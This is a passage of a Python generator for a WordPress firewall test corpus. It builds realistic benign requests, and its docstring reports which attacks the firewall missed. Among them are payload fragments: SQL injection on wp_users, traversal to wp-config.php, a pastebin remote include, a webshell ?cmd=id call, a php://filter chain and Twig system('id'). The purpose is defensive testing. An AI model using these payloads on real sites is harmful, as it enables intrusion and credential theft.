#!/usr/bin/env python3
"""Held-out HTTP test corpus: the WordPress ecosystem.

What it is
    A deterministic generator of realistic HTTP requests against WordPress
    sites behind a sidecar WAF, as they really look on the wire: wp-login.php,
    wp-admin/admin-ajax.php actions (heartbeat, autosave, query-attachments,
    plugin actions), the REST API (/wp-json/wp/v2/posts, pages, media, users,
    block-renderer; Gutenberg saves whose content is block markup such as
    `<!-- wp:paragraph {"align":"center"} -->`, embeds and shortcodes like
    [gallery ids="1,2"] or [contact-form-7 id="12"]), classic-editor post.php
    forms with HTML content, comments (wp-comments-post.php) in many
    languages, XML-RPC (pingbacks, metaWeblog.newPost from the mobile apps),
    WooCommerce (cart, checkout with addresses, Store API, payment webhooks,
    product CSV import), Elementor / Divi / WPBakery / Beaver Builder saves
    (big JSON or shortcode data with CSS and HTML), Contact Form 7, Gravity
    Forms, Yoast SEO settings, ACF fields, WP-CLI-like REST calls with
    application passwords, multisite, Jetpack, plugin and theme updates, and
    the customizer (customize_changeset_data JSON with CSS).  Rich HTML, CSS,
    JSON, serialized PHP and shortcodes are everywhere here, which makes it a
    hard false-positive test for a WAF.

    * benign       ~450 ordinary requests (expect "pass"), plus ~50
                   "dev-content" requests (category "dev-content", still
                   "pass"): developers posting PHP / JS / SQL / shell snippets
                   in code blocks, Custom HTML blocks, Code Snippets and
                   header/footer-script plugin saves, tutorial posts that
                   quote attack strings inside <code>; counted apart.
    * attacks      ~260 requests (expect "detect") modelled on real WordPress
                   CVE and mass-exploitation traffic: SQLi in plugin AJAX/REST
                   parameters (orderby, id, post_id, tax queries, cookies),
                   stored XSS in comments, shortcode attributes, SVG uploads,
                   block attributes and profile fields; path traversal in
                   plugin download/export parameters; arbitrary upload of PHP
                   (double extensions, .phtml, .phar); PHP object injection in
                   cookies and parameters; PHP wrappers; RFI; XML-RPC abuse
                   (system.multicall brute force, pingback SSRF); REST user
                   enumeration and privilege escalation; SSRF in oEmbed and
                   proxy endpoints; unauthenticated option updates; RCE via the
                   theme editor and plugin upload; XXE in media and imports;
                   SSTI in page-builder / Twig templates; Log4Shell; LDAP and
                   NoSQL operators in login plugins; CRLF; protocol oddities;
                   scanners (wpscan, nuclei) probing readme.txt, backups and
                   /.env.

    Written blind: without looking at the WAF's rules, its tests, or the
    payload lists of the other corpus scripts, so it measures generalisation
    rather than rule-fitting.

How to run
    python3 scripts/corpus-wordpress.py attacks > rulesets/tests/data/wordpress-attacks.jsonl
    python3 scripts/corpus-wordpress.py benign  > rulesets/tests/data/wordpress-benign.jsonl
    python3 scripts/corpus-wordpress.py stats      # counts per category, to stderr

Each output line is one JSON object:
    {"id", "set": "wordpress", "category", "expect": "detect"|"pass", "method",
     "uri" (percent-encoded as a client sends it), "version": "HTTP/1.1",
     "headers": [[name, value], ...], "body"?: str}
Ids are "wordpress/<category>/<generator>-NNN"; ordinary benign requests are
under "wordpress/benign/...", dev-content under "wordpress/dev-content/...".

Only the standard library is used; every generator draws from its own
random.Random seeded by name, so output is byte-for-byte reproducible.

First sight
-----------
(2026-12-06, binary /work/bin/pr-now, built-in rules)
Run once, nothing tuned; the corpus was not changed after seeing the results.
Counts: 281 attacks (sqli 45, xss 43, rce 30, lfi 22, php 22, scanner 20,
ssrf 17, generic 15, ssti 13, rfi 9, java 9, crlf 9, protocol 9, xxe 8,
nosql 5, ldap 5), 509 benign (459 ordinary + 50 dev-content).
(protocol/smuggling-001 carries Transfer-Encoding: chunked beside a
Content-Length that does not match its body, -002 and -009 a second,
conflicting Content-Length, -003/-004 obfuscated Transfer-Encoding, -005 a
second Host, -007 an absolute-form request target, on purpose; every other
body's Content-Length is its UTF-8 byte length.  rce/editor-exec-007 carries
the CVE-2016-10033 payload in its Host header.)

PL1 (flagged = blocked at paranoia 1, threshold 5):
  attacks blocked   256/281 = 91.1 %  (100 % in crlf, java, ldap, nosql,
                    protocol, ssrf, xss, xxe; sqli 44/45, lfi 21/22,
                    php 21/22, ssti 12/13, rce 27/30, scanner 18/20,
                    rfi 8/9, generic 0/15)
  ordinary benign   11/459 = 2.4 % blocked
  dev-content       40/50 = 80.0 % blocked (code-block 16/20, custom-html
                    8/10, snippet-plugin 8/12, tutorial 8/8)
Missed attacks (score 0, no rule matched):
  sqli/plugin-rest-004       WP Google Maps fields=* from wp_users-- -
  lfi/plugin-download-021    elFinder target hash (base64 of ../../../wp-config.php)
  rfi/remote-include-003     url=https://pastebin.com/raw/... (no "?" / no shell name)
  rce/file-upload-012        Simple File List rename x.png -> x.php
  rce/editor-exec-007        PHPMailer CVE-2016-10033 payload in the Host header
  rce/webshell-001           GET /wp-content/uploads/.../x.php?cmd=id
  php/wrapper-code-006       Backup Migration Content-Dir: php://filter chain (header)
  ssti/template-004          Twig {{ constant('DB_PASSWORD') }}{{ function('system','id') }}
  generic/wp-abuse-001..015  all: REST user enumeration, role=administrator
                             registrations, unauthenticated option updates,
                             system.multicall brute force
  scanner/probe-009, -015    plugin readme/release_log probes with a plain UA
Blocked ordinary benign:
  classic-editor-005/-006/-012/-021, xmlrpc-007: a content <div style=...>
    plus a Google Maps <iframe> (xss-002, xss-011), with rfi-140 on the
    classic form's referredby=https://<site>/wp-admin/edit.php
  page-builder-004/-009/-014/-019/-024/-029: WPBakery shortcode attribute
    [vc_single_image ... onclick="link_image"] (xss-020 '" onclick=')
  (34 more ordinary benign requests pass with a score below 5: rfi-140 on
  full self-URLs, rfi-111, sqli-002.)
"""
import hashlib
import json
import random
import sys
from urllib.parse import quote, quote_plus

SET = "wordpress"

# --------------------------------------------------------------------------
# plumbing
# --------------------------------------------------------------------------

SITES = [
    "www.larchwood-bakery.com", "blog.acme.io", "shop.lumen-coffee.de", "news.riverside-gazette.org",
    "kettle.dev", "studio-nordlys.no", "tienda.solymar.es", "minhaloja.com.br", "www.fromagerie-alpine.fr",
    "hikari-tea.jp", "citycycling.co.uk", "wp.university-demo.edu",
]
MULTISITE = "network.edu-campus.org"

BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.67",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14.4; rv:126.0) Gecko/20100101 Firefox/126.0",
]
LANGS = ["en-US,en;q=0.9", "de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7", "fr-FR,fr;q=0.9,en;q=0.8", "es-ES,es;q=0.9",
         "pt-BR,pt;q=0.9,en-US;q=0.8,en;q=0.7", "ja,en-US;q=0.9,en;q=0.8", "nb-NO,nb;q=0.9,no;q=0.8,en;q=0.6",
         "en-GB,en;q=0.9", "pl-PL,pl;q=0.9,en;q=0.7", "tr-TR,tr;q=0.9,en;q=0.8"]
USERS = ["admin", "editor", "marta.k", "jdoe", "sofie", "kenji", "lucia_g", "webmaster", "shopmanager", "author2"]

ACCEPT_HTML = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8"
ACCEPT_AJAX = "application/json, text/javascript, */*; q=0.01"
ACCEPT_REST = "application/json, */*;q=0.1"


def hexid(r, n=32):
    return "".join(r.choice("0123456789abcdef") for _ in range(n))


def alnum(r, n):
    return "".join(r.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789") for _ in range(n))


def nonce(r):
    return hexid(r, 10)


def cookiehash(host):
    return hashlib.md5(("https://" + host).encode()).hexdigest()


def js(obj):
    return json.dumps(obj, ensure_ascii=False, separators=(",", ":"))


def form(pairs):
    """application/x-www-form-urlencoded the way browsers and jQuery send it."""
    if isinstance(pairs, dict):
        pairs = list(pairs.items())
    return "&".join("%s=%s" % (quote_plus(str(k)), quote_plus(str(v))) for k, v in pairs)


def qs(pairs):
    """A query string as a client puts it in the request line."""
    if isinstance(pairs, dict):
        pairs = list(pairs.items())
    return "&".join("%s=%s" % (quote(str(k), safe=""), quote(str(v), safe="-_.~")) for k, v in pairs)


def multipart(r, parts):
    """parts: (name, value) or (name, filename, ctype, content). Returns (body, content-type)."""
    b = "----WebKitFormBoundary" + alnum(r, 16)
    out = []
    for p in parts:
        if len(p) == 2:
            out.append('--%s\r\nContent-Disposition: form-data; name="%s"\r\n\r\n%s\r\n' % (b, p[0], p[1]))
        else:
            out.append('--%s\r\nContent-Disposition: form-data; name="%s"; filename="%s"\r\nContent-Type: %s\r\n\r\n%s\r\n'
                       % (b, p[0], p[1], p[2], p[3]))
    out.append("--%s--\r\n" % b)
    return "".join(out), "multipart/form-data; boundary=" + b


def logged_in(r, host, user=None, admin=True, extra=""):
    """Cookies of a logged-in WordPress user (wp-admin requests also carry wordpress_sec_)."""
    h = cookiehash(host)
    user = user or r.choice(USERS)
    exp = 1717000000 + r.randint(0, 20000000)
    tok = alnum(r, 43)
    val = "%s%%7C%d%%7C%s%%7C%s" % (quote(user, safe=""), exp, tok, hexid(r, 64))
    c = []
    if admin:
        c.append("wordpress_sec_%s=%s" % (h, val))
    c.append("wordpress_logged_in_%s=%s" % (h, val))
    c.append("wp-settings-1=libraryContent%3Dbrowse%26editor%3Dtinymce%26posts_list_mode%3Dlist%26mfold%3Do")
    c.append("wp-settings-time-1=%d" % (exp - 1209600))
    if r.random() < 0.5:
        c.append("_ga=GA1.1.%d.%d" % (r.randint(10 ** 8, 10 ** 9), exp - 9999999))
    if extra:
        c.append(extra)
    return "; ".join(c)


def visitor(r, host, shop=False):
    c = []
    if r.random() < 0.6:
        c.append("_ga=GA1.1.%d.%d" % (r.randint(10 ** 8, 10 ** 9), 1710000000 + r.randint(0, 9999999)))
    if r.random() < 0.4:
        c.append("cookielawinfo-checkbox-analytics=yes")
    if shop:
        h = cookiehash(host)
        c.append("woocommerce_items_in_cart=1")
        c.append("woocommerce_cart_hash=" + hexid(r))
        c.append("wp_woocommerce_session_%s=t_%s%%7C%%7C%d%%7C%d%%7C%s" % (h, hexid(r, 30), 1718000000 + r.randint(0, 99999),
                                                                       1717900000 + r.randint(0, 99999), hexid(r)))
    if r.random() < 0.2:
        c.append("pll_language=" + r.choice(["en", "de", "fr", "es"]))
    return "; ".join(c)


def mk(id_, category, expect, method, host, path, query=None, body=None, ctype=None, rng=None, kind="page",
       cookie=None, ua=None, referer=None, origin=False, headers=None, lang=None, raw=False):
    """One request.  `query` is a list of pairs (encoded here) or an already encoded string."""
    r = rng or random.Random(id_)
    uri = path
    if query:
        uri += "?" + (query if isinstance(query, str) else qs(query))
    h = [["Host", host]]
    h.append(["User-Agent", ua or r.choice(BROWSERS)])
    if kind == "page":
        h.append(["Accept", ACCEPT_HTML])
    elif kind == "ajax":
        h.append(["Accept", ACCEPT_AJAX])
    elif kind == "rest":
        h.append(["Accept", ACCEPT_REST])
    elif kind == "api":
        h.append(["Accept", "*/*"])
    elif kind == "xml":
        h.append(["Accept", "text/xml, application/xml"])
    if kind != "bare":
        h.append(["Accept-Language", lang or r.choice(LANGS)])
        h.append(["Accept-Encoding", "gzip, deflate, br"])
    if referer:
        h.append(["Referer", referer if referer.startswith("http") else "https://" + host + referer])
    if origin:
        h.append(["Origin", "https://" + host])
    if body is not None:
        h.append(["Content-Type", ctype or "application/x-www-form-urlencoded; charset=UTF-8"])
        h.append(["Content-Length", str(len(body.encode("utf-8")))])
    if kind == "ajax":
        h.append(["X-Requested-With", "XMLHttpRequest"])
    for x in headers or []:
        h.append(list(x))
    if cookie:
        h.append(["Cookie", cookie])
    d = {"id": id_, "set": SET, "category": category, "expect": expect, "method": method, "uri": uri,
         "version": "HTTP/1.1", "headers": h}
    if body is not None:
        d["body"] = body
    return d


class Gen:
    """Collects the requests of one generator; ids are numbered per generator."""

    def __init__(self, category, name, expect):
        self.cat, self.name, self.expect = category, name, expect
        self.r = random.Random("%s:%s:%s" % (SET, category, name))
        self.out = []

    def add(self, method, host, path, **kw):
        kw.setdefault("rng", self.r)
        self.out.append(mk("%s/%s/%s-%03d" % (SET, self.cat, self.name, len(self.out) + 1), self.cat, self.expect,
                           method, host, path, **kw))

    def site(self):
        return self.r.choice(SITES)


BENIGN, DEV, ATTACKS = [], [], []


def benign_gen(name):
    def deco(f):
        BENIGN.append((name, f))
        return f
    return deco


def dev_gen(name):
    def deco(f):
        DEV.append((name, f))
        return f
    return deco


def attack_gen(category, name):
    def deco(f):
        ATTACKS.append((category, name, f))
        return f
    return deco


def admin_ajax(g, host, pairs, referer="/wp-admin/", cookie=None, user=None, query=None):
    body = form(pairs)
    g.add("POST", host, "/wp-admin/admin-ajax.php", query=query, body=body, kind="ajax", origin=True, referer=referer,
          cookie=cookie or logged_in(g.r, host, user))


def rest(g, method, host, route, obj=None, query=None, cookie=None, referer="/wp-admin/post-new.php", extra=None):
    hdr = [["X-WP-Nonce", nonce(g.r)]]
    hdr += extra or []
    body = js(obj) if obj is not None else None
    g.add(method, host, "/wp-json" + route, query=query, body=body, ctype="application/json" if body is not None else None,
          kind="rest", origin=method != "GET", referer=referer, headers=hdr, cookie=cookie or logged_in(g.r, host))


# --------------------------------------------------------------------------
# benign: front end, login, admin basics
# --------------------------------------------------------------------------

SLUGS = ["how-we-bake-our-sourdough", "spring-menu-2024", "a-guide-to-pour-over-coffee", "winter-cycling-tips",
         "annual-report-2023", "meet-the-team", "o-que-e-cafe-especial", "guia-de-tapas", "matcha-no-tatekata",
         "votre-fromage-prefere", "release-notes-v3-2", "why-we-switched-to-gutenberg", "hello-world",
         "privacy-policy", "black-friday-deals", "community-garden-update"]
SEARCHES = ["sourdough starter", "opening hours", "gift card", "rezepte", "café com leite", "how to return an item",
            "what's new", "bike \"tubeless\" tyres", "抹茶", "menú del día", "50% off", "C&A collab", "rock'n'roll",
            "size 10-12", "privacy & cookies", "order #10234", "naïve", "2024/05", "select lens", "union square store"]


@benign_gen("frontend")
def g_frontend(g):
    for i in range(48):
        host = g.site()
        shop = host.startswith("shop") or host.startswith("tienda") or "loja" in host
        k = i % 12
        q = None
        if k == 0:
            path = "/"
        elif k == 1:
            path = "/%d/%02d/%s/" % (g.r.randint(2019, 2024), g.r.randint(1, 12), g.r.choice(SLUGS))
        elif k == 2:
            path, q = "/", [("s", g.r.choice(SEARCHES))]
        elif k == 3:
            path = "/category/%s/page/%d/" % (g.r.choice(["news", "recipes", "uncategorized", "guides"]), g.r.randint(2, 9))
        elif k == 4:
            path = g.r.choice(["/feed/", "/comments/feed/", "/category/news/feed/atom/", "/sitemap_index.xml",
                               "/post-sitemap.xml", "/robots.txt", "/wp-sitemap.xml"])
        elif k == 5:
            path, q = "/", [("p", g.r.randint(1, 4000))]
        elif k == 6:
            path, q = "/wp-content/themes/%s/style.css" % g.r.choice(["astra", "twentytwentyfour", "generatepress", "kadence", "Divi"]), \
                [("ver", g.r.choice(["6.5.3", "4.6.12", "3.4.1", "1.1"]))]
        elif k == 7:
            path, q = g.r.choice(["/wp-includes/js/jquery/jquery.min.js", "/wp-includes/js/wp-emoji-release.min.js",
                                  "/wp-content/plugins/contact-form-7/includes/js/index.js",
                                  "/wp-content/plugins/woocommerce/assets/js/frontend/cart-fragments.min.js",
                                  "/wp-includes/css/dist/block-library/style.min.css"]), [("ver", g.r.choice(["3.7.1", "6.5.3", "5.9.5", "8.8.3"]))]
        elif k == 8:
            path = "/wp-content/uploads/%d/%02d/%s-%dx%d.%s" % (g.r.randint(2020, 2024), g.r.randint(1, 12),
                                                               g.r.choice(["IMG_2041", "hero-banner", "team-photo", "croissant", "map"]),
                                                               g.r.choice([300, 768, 1024]), g.r.choice([200, 512, 683]),
                                                               g.r.choice(["jpg", "webp", "png"]))
        elif k == 9:
            path = "/" + g.r.choice(["shop/", "product/ethiopia-yirgacheffe-250g/", "cart/", "my-account/orders/",
                                     "product-category/equipment/", "checkout/order-received/10234/"])
            if "order-received" in path:
                q = [("key", "wc_order_" + alnum(g.r, 13))]
            shop = True
        elif k == 10:
            path, q = "/", [("page_id", g.r.randint(2, 300))]
        else:
            path = "/" + g.r.choice(["tag/espresso/", "2024/05/", "events/list/", "contact/", "about-us/", "en/blog/",
                                     "de/rezepte/", "amp/", "page/3/"])
            if path.endswith("events/list/"):
                q = [("tribe-bar-date", "2024-06-01"), ("tribe-bar-search", "open mic")]
            if path.endswith("/amp/") and g.r.random() < 0.5:
                q = [("utm_source", "newsletter"), ("utm_medium", "email"), ("utm_campaign", "may_2024")]
        static = k in (6, 7, 8)
        g.add("GET", host, path, query=q, kind="api" if static else "page", cookie=visitor(g.r, host, shop) or None,
              referer="/" if g.r.random() < 0.5 else None)


@benign_gen("login")
def g_login(g):
    for i in range(20):
        host = g.site()
        k = i % 5
        tc = "wordpress_test_cookie=WP%20Cookie%20check"
        if k == 0:
            g.add("GET", host, "/wp-login.php", query=[("redirect_to", "https://%s/wp-admin/" % host), ("reauth", "1")], cookie=tc)
        elif k in (1, 2):
            user = g.r.choice(USERS + ["maría.lópez@example.es", "o'connor"])
            body = form([("log", user), ("pwd", g.r.choice(["Tr0ub4dor&3", "correct horse battery staple", "P@ss w0rd!\"#",
                                                             "ß€cret-2024", "x' OR y", "hunter2<>"])),
                         ("wp-submit", "Log In"), ("redirect_to", "https://%s/wp-admin/" % host), ("testcookie", "1")])
            g.add("POST", host, "/wp-login.php", body=body, origin=True, referer="/wp-login.php", cookie=tc)
        elif k == 3:
            body = form([("user_login", g.r.choice(["marta@example.com", "kenji", "sofie.berg@example.no"])),
                         ("redirect_to", ""), ("wp-submit", "Get New Password")])
            g.add("POST", host, "/wp-login.php", query=[("action", "lostpassword")], body=body, origin=True,
                  referer="/wp-login.php?action=lostpassword", cookie=tc)
        else:
            g.add("GET", host, "/wp-login.php", query=[("action", "logout"), ("_wpnonce", nonce(g.r))],
                  cookie=logged_in(g.r, host), referer="/wp-admin/")


@benign_gen("heartbeat")
def g_heartbeat(g):
    for i in range(20):
        host = g.site()
        pid = g.r.randint(10, 5000)
        pairs = [("interval", g.r.choice([15, 60, 120])), ("_nonce", nonce(g.r)), ("action", "heartbeat"),
                 ("screen_id", g.r.choice(["post", "page", "dashboard", "edit-post", "product"])),
                 ("has_focus", g.r.choice(["true", "false"]))]
        if i % 2 == 0:
            pairs[:0] = [("data[wp-refresh-post-lock][lock]", "%d:%d" % (1717000000 + i, g.r.randint(1, 9))),
                         ("data[wp-refresh-post-lock][post_id]", pid),
                         ("data[wp-refresh-post-nonces]", pid)]
        if i % 3 == 0:
            pairs.insert(0, ("data[wp_autosave][post_id]", pid))
            pairs.insert(1, ("data[wp_autosave][post_title]", g.r.choice(["Weekend specials: 20% off & free delivery",
                                                                          "Q&A with our head roaster", "Ñoquis caseros"])))
            pairs.insert(2, ("data[wp_autosave][content]", "<p>Draft text with <strong>bold</strong> and a <a href=\"https://example.org/?a=1&b=2\">link</a>.</p>"))
        if i % 4 == 1:
            pairs.insert(0, ("data[wc-heartbeat]", "1"))
        admin_ajax(g, host, pairs, referer="/wp-admin/post.php?post=%d&action=edit" % pid)


@benign_gen("query-attachments")
def g_query_attachments(g):
    for i in range(12):
        host = g.site()
        pairs = [("action", "query-attachments"), ("post_id", g.r.choice([0, g.r.randint(1, 900)])),
                 ("query[orderby]", g.r.choice(["date", "title", "menuOrder"])), ("query[order]", g.r.choice(["DESC", "ASC"])),
                 ("query[posts_per_page]", 80), ("query[paged]", g.r.randint(1, 6))]
        if i % 3 == 0:
            pairs.append(("query[post_mime_type]", g.r.choice(["image", "video", "audio", "application/pdf"])))
        if i % 4 == 0:
            pairs.append(("query[s]", g.r.choice(["logo", "team 2024", "café", "banner-final (2)"])))
        if i % 5 == 0:
            pairs += [("query[year]", 2024), ("query[monthnum]", g.r.randint(1, 12))]
        admin_ajax(g, host, pairs, referer="/wp-admin/upload.php")


@benign_gen("rest-read")
def g_rest_read(g):
    routes = [
        ("/wp/v2/posts", [("per_page", 10), ("_embed", "1"), ("orderby", "date"), ("order", "desc")]),
        ("/wp/v2/posts", [("search", "coffee grinder"), ("per_page", 5), ("_fields", "id,title,link")]),
        ("/wp/v2/pages", [("parent", 0), ("orderby", "menu_order"), ("order", "asc"), ("context", "edit")]),
        ("/wp/v2/categories", [("per_page", 100), ("orderby", "name"), ("order", "asc"), ("_fields", "id,name,parent"), ("context", "view")]),
        ("/wp/v2/media", [("media_type", "image"), ("per_page", 20), ("page", 2)]),
        ("/wp/v2/users/me", [("context", "edit"), ("_locale", "user")]),
        ("/wp/v2/types", [("context", "view"), ("_locale", "user")]),
        ("/wp/v2/posts", [("categories", "3,7"), ("tags_exclude", "12"), ("after", "2024-01-01T00:00:00"), ("status", "publish,future")]),
        ("/wp/v2/search", [("search", "über uns"), ("type", "post"), ("subtype", "any"), ("per_page", 20)]),
        ("/wp/v2/block-patterns/patterns", [("_locale", "user")]),
        ("/wp/v2/settings", [("_locale", "user")]),
        ("/wp/v2/templates", [("context", "edit"), ("per_page", -1), ("post_type", "page")]),
        ("/wp/v2/global-styles/themes/twentytwentyfour", [("context", "edit")]),
        ("/wp/v2/posts/1234/revisions", [("per_page", 100), ("_fields", "id,date,author,title")]),
        ("/wp/v2/comments", [("post", 88), ("status", "approve"), ("orderby", "date_gmt"), ("order", "desc")]),
        ("/wp/v2/tags", [("search", "rock'n'roll"), ("per_page", 20), ("_fields", "id,name,count")]),
        ("/wc/store/v1/products", [("per_page", 12), ("catalog_visibility", "catalog"), ("orderby", "price"), ("order", "asc")]),
        ("/wp-site-health/v1/tests/background-updates", [("_locale", "user")]),
    ]
    for i in range(24):
        host = g.site()
        route, q = routes[i % len(routes)]
        public = i % 3 == 2
        g.add("GET", host, "/wp-json" + route, query=q, kind="rest",
              headers=None if public else [["X-WP-Nonce", nonce(g.r)]],
              cookie=None if public else logged_in(g.r, host), referer=None if public else "/wp-admin/edit.php")


# --------------------------------------------------------------------------
# benign: the block editor, classic editor, media, comments
# --------------------------------------------------------------------------

BLOCKS = [
    '<!-- wp:paragraph {"align":"center"} -->\n<p class="has-text-align-center">Our shop is open <strong>Tuesday&nbsp;–&nbsp;Sunday</strong>, 8:00–18:00. Closed on public holidays!</p>\n<!-- /wp:paragraph -->',
    '<!-- wp:heading {"level":3,"className":"is-style-underline"} -->\n<h3 class="wp-block-heading is-style-underline" id="ingredients">Ingredients &amp; tools</h3>\n<!-- /wp:heading -->',
    '<!-- wp:list -->\n<ul><!-- wp:list-item -->\n<li>500 g flour (T65)</li>\n<!-- /wp:list-item -->\n\n<!-- wp:list-item -->\n<li>350 ml water, 25&nbsp;°C</li>\n<!-- /wp:list-item -->\n\n<!-- wp:list-item -->\n<li>10 g salt – <em>not</em> iodised</li>\n<!-- /wp:list-item --></ul>\n<!-- /wp:list -->',
    '<!-- wp:image {"id":%(id)d,"sizeSlug":"large","linkDestination":"none","className":"is-style-rounded"} -->\n<figure class="wp-block-image size-large is-style-rounded"><img src="https://%(host)s/wp-content/uploads/2024/05/loaf-1024x683.jpg" alt="A loaf on the cooling rack" class="wp-image-%(id)d"/><figcaption class="wp-element-caption">Photo: Marta K. / CC BY 4.0</figcaption></figure>\n<!-- /wp:image -->',
    '<!-- wp:embed {"url":"https://www.youtube.com/watch?v=dQw4w9WgXcQ","type":"video","providerNameSlug":"youtube","responsive":true,"className":"wp-embed-aspect-16-9 wp-has-aspect-ratio"} -->\n<figure class="wp-block-embed is-type-video is-provider-youtube wp-block-embed-youtube wp-embed-aspect-16-9 wp-has-aspect-ratio"><div class="wp-block-embed__wrapper">\nhttps://www.youtube.com/watch?v=dQw4w9WgXcQ\n</div></figure>\n<!-- /wp:embed -->',
    '<!-- wp:shortcode -->\n[gallery ids="%(id)d,%(id2)d,%(id3)d" columns="3" link="file" size="medium"]\n<!-- /wp:shortcode -->',
    '<!-- wp:shortcode -->\n[contact-form-7 id="12" title="Contact form 1"]\n<!-- /wp:shortcode -->',
    '<!-- wp:quote {"className":"is-style-large"} -->\n<blockquote class="wp-block-quote is-style-large"><!-- wp:paragraph -->\n<p>“Good bread takes time — and a little patience.”</p>\n<!-- /wp:paragraph --><cite>Grandma Ilse, 1962</cite></blockquote>\n<!-- /wp:quote -->',
    '<!-- wp:buttons {"layout":{"type":"flex","justifyContent":"center"}} -->\n<div class="wp-block-buttons"><!-- wp:button {"backgroundColor":"vivid-red","style":{"border":{"radius":"8px"}}} -->\n<div class="wp-block-button"><a class="wp-block-button__link has-vivid-red-background-color has-background wp-element-button" href="https://%(host)s/shop/?orderby=price&amp;filter_roast=dark" style="border-radius:8px" target="_blank" rel="noreferrer noopener">Shop now →</a></div>\n<!-- /wp:button --></div>\n<!-- /wp:buttons -->',
    '<!-- wp:table {"hasFixedLayout":true,"className":"is-style-stripes"} -->\n<figure class="wp-block-table is-style-stripes"><table class="has-fixed-layout"><thead><tr><th>Size</th><th>Price</th><th>Stock</th></tr></thead><tbody><tr><td>250 g</td><td>€9.90</td><td>&lt; 5 left</td></tr><tr><td>1 kg</td><td>€34.00</td><td>in stock</td></tr></tbody></table><figcaption class="wp-element-caption">Prices incl. 7%% VAT</figcaption></figure>\n<!-- /wp:table -->',
    '<!-- wp:columns {"verticalAlignment":"center"} -->\n<div class="wp-block-columns are-vertically-aligned-center"><!-- wp:column {"width":"33.33%%"} -->\n<div class="wp-block-column" style="flex-basis:33.33%%"><!-- wp:paragraph {"fontSize":"small"} -->\n<p class="has-small-font-size">Left column: <a href="mailto:hello@%(host)s">hello@%(host)s</a></p>\n<!-- /wp:paragraph --></div>\n<!-- /wp:column -->\n\n<!-- wp:column {"width":"66.66%%"} -->\n<div class="wp-block-column" style="flex-basis:66.66%%"><!-- wp:paragraph -->\n<p>Right column with a <mark style="background-color:rgba(0, 0, 0, 0)" class="has-inline-color has-vivid-cyan-blue-color">highlight</mark>.</p>\n<!-- /wp:paragraph --></div>\n<!-- /wp:column --></div>\n<!-- /wp:columns -->',
    '<!-- wp:cover {"url":"https://%(host)s/wp-content/uploads/2024/03/hero.jpg","id":%(id)d,"dimRatio":50,"minHeight":420,"isDark":false} -->\n<div class="wp-block-cover is-light" style="min-height:420px"><span aria-hidden="true" class="wp-block-cover__background has-background-dim"></span><img class="wp-block-cover__image-background wp-image-%(id)d" alt="" src="https://%(host)s/wp-content/uploads/2024/03/hero.jpg" data-object-fit="cover"/><div class="wp-block-cover__inner-container"><!-- wp:heading {"textAlign":"center","level":1} -->\n<h1 class="wp-block-heading has-text-align-center">Summer Festival 2024</h1>\n<!-- /wp:heading --></div></div>\n<!-- /wp:cover -->',
    '<!-- wp:separator {"className":"is-style-dots"} -->\n<hr class="wp-block-separator has-alpha-channel-opacity is-style-dots"/>\n<!-- /wp:separator -->',
    '<!-- wp:woocommerce/product-collection {"queryId":0,"query":{"perPage":4,"pages":1,"offset":0,"postType":"product","order":"desc","orderBy":"popularity","search":"","exclude":[],"inherit":false,"taxQuery":{"product_cat":[17]},"isProductCollectionBlock":true,"woocommerceOnSale":false,"woocommerceStockStatus":["instock","onbackorder"]},"tagName":"div","displayLayout":{"type":"flex","columns":4}} /-->',
    '<!-- wp:latest-posts {"postsToShow":3,"displayPostDate":true,"displayFeaturedImage":true,"featuredImageSizeSlug":"medium","categories":[{"id":4,"value":"News"}]} /-->',
    '<!-- wp:details {"summary":"Do you ship to Switzerland?"} -->\n<details class="wp-block-details"><summary>Do you ship to Switzerland?</summary><!-- wp:paragraph {"placeholder":"Type / to add a hidden block"} -->\n<p>Yes — customs fees (CHF) are paid on delivery. See our <a href="/shipping/#international">shipping page</a>.</p>\n<!-- /wp:paragraph --></details>\n<!-- /wp:details -->',
    '<!-- wp:paragraph -->\n<p>Käsespätzle, crème brûlée, 抹茶ラテ and pão de queijo: this week\'s menu is <em>international</em>. Prices from 4,50&nbsp;€ (see table below) — questions? Call +49&nbsp;30&nbsp;1234567.</p>\n<!-- /wp:paragraph -->',
    '<!-- wp:group {"layout":{"type":"constrained"},"style":{"spacing":{"padding":{"top":"var:preset|spacing|50","bottom":"var:preset|spacing|50"}}},"backgroundColor":"base-2"} -->\n<div class="wp-block-group has-base-2-background-color has-background" style="padding-top:var(--wp--preset--spacing--50);padding-bottom:var(--wp--preset--spacing--50)"><!-- wp:navigation-link {"label":"Menu","type":"page","id":42,"url":"/menu/","kind":"post-type"} /--></div>\n<!-- /wp:group -->',
    '<!-- wp:audio {"id":%(id)d} -->\n<figure class="wp-block-audio"><audio controls src="https://%(host)s/wp-content/uploads/2024/04/episode-12.mp3"></audio><figcaption class="wp-element-caption">Episode 12: "Roast profiles" (48 min)</figcaption></figure>\n<!-- /wp:audio -->',
